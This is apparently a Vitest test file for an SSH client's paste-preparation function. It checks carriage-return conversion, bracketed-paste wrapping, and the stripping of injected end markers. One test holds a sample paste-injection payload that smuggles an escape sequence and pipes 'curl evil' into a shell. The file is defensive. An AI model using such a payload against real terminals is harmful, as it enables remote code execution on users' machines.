import { describe, expect, it } from 'vitest';
import { preparePaste } from '../../../../main/ssh/pasteText';

describe('preparePaste', () => {
  it('turns line breaks into carriage returns, as Enter sends', () => {
    expect(preparePaste('a\nb\r\nc', false)).toBe('a\rb\rc');
  });

  it('wraps the text in bracketed-paste markers when the terminal asked for them', () => {
    expect(preparePaste('ls\nrm -rf x\n', true)).toBe('\x1b[200~ls\rrm -rf x\r\x1b[201~');
  });

  it('removes end markers hidden in the clipboard so the paste cannot break out and run commands', () => {
    const evil = 'harmless\x1b[201~curl evil | sh\n';
    const out = preparePaste(evil, true);
    expect(out).toBe('\x1b[200~harmlesscurl evil | sh\r\x1b[201~');
    expect(out.indexOf('\x1b[201~')).toBe(out.length - 6);
  });
});
